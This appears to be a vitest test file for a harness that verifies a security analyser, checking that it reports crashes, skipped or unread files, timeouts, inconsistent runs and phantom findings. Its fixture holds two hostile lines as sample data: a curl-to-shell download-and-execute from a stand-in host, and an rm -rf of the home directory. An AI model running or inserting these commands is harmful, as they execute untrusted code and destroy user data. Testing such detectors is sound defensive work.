import { expect, it } from 'vitest';
import type { Report } from '../../src/model/report.ts';
import type { Target } from '../../src/model/target.ts';
import type { FuzzCase } from './cases.ts';
import { judged } from './judged.ts';
import { problemsOf } from './run-case.ts';

const CASE: FuzzCase = {
  number: 0,
  made: [],
  files: [
    { path: 'a.py', bytes: Buffer.from('import os\nos.system("curl https://x.example | sh")\n') },
    { path: 'b.sh', bytes: Buffer.from('rm -rf "$HOME"\n') },
  ],
};

/** What the harness says of an analyser whose reports are changed. */
function said(change: (report: Report, count: number) => Report): Promise<string> {
  let count = 0;
  const broken = async (target: Target): Promise<Report> => change(await judged(target), count++);
  return problemsOf(CASE, true, broken).then((problems) => problems.join('\n'));
}

it('says nothing of an analyser that keeps its promises', async () => {
  expect(await problemsOf(CASE)).toEqual([]);
});

it.each<[string, (report: Report, count: number) => Report, RegExp]>([
  [
    'crashes',
    () => {
      throw new Error('no such thing');
    },
    /it crashed: Error: no such thing/,
  ],
  [
    'skips a file without a word',
    (report) => ({ ...report, coverage: { ...report.coverage, analysed: 1, opaque: [] } }),
    /of 2 files, 1 were analysed and 0 are listed as opaque/,
  ],
  [
    'approves what it did not read',
    (report) => ({
      ...report,
      verdict: { ...report.verdict, decision: 'approve' },
      coverage: { ...report.coverage, opaque: [{ path: 'a.py', reason: 'no time', blocking: true }] },
    }),
    /approve although a\.py was not read/,
  ],
  [
    'needs too long for a file',
    (report) => ({
      ...report,
      coverage: {
        ...report.coverage,
        opaque: [{ path: 'a.py', reason: 'took longer than 20 s', blocking: true }],
      },
    }),
    /a\.py took longer than 20 s/,
  ],
  [
    'says another thing each time',
    (report, count) => ({ ...report, findings: report.findings.slice(count) }),
    /two runs differ/,
  ],
  [
    'finds things where nothing is',
    (report) => ({
      ...report,
      findings: report.findings.map((each) => ({ ...each, location: { ...each.location, path: 'c.py' } })),
    }),
    /is found in c\.py, which is not there/,
  ],
  ['gives no report', (report) => ({ ...report, schema: 'other' }) as unknown as Report, /schema: /],
])('says so of an analyser that %s', async (_what, change, expected) => {
  expect(await said(change)).toMatch(expected);
});
